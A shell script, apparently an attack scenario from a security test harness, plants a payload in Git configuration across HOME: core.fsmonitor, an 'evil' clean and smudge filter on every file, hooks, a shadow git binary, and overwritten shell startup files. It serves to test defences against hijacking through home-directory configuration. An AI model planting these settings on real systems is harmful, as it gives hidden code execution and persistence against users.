#!/bin/sh
# Configuration of Git in HOME, of every name, with attributes and ignore rules;
# also what a shell reads there.
. "$(dirname "$0")/lib.sh" <<'AGENT'
mkdir -p "$HOME/.config/git" "$HOME/.ssh" "$HOME/bin"
for file in "$HOME/.gitconfig" "$HOME/.config/git/config" "$HOME/etc/gitconfig"; do
	mkdir -p "$(dirname "$file")"
	printf '[core]\n\tfsmonitor = "%s #"\n\thooksPath = %s/hooks\n\tattributesFile = %s/attributes\n\texcludesFile = %s/ignore\n[filter "evil"]\n\tclean = "%s; cat #"\n\tsmudge = "%s; cat #"\n' \
	    "$PAYLOAD" "$HOME" "$HOME" "$HOME" "$PAYLOAD" "$PAYLOAD" >"$file"
	planted "$file"
done
echo '* filter=evil' | tee "$HOME/attributes" "$HOME/.config/git/attributes" >/dev/null
echo '*' | tee "$HOME/ignore" "$HOME/.config/git/ignore" >/dev/null
program "$HOME/hooks/post-index-change"
program "$HOME/bin/git"
for file in .bashrc .profile .bash_profile .zshenv .shinit; do echo "$PAYLOAD" >"$HOME/$file"; done
AGENT
attack
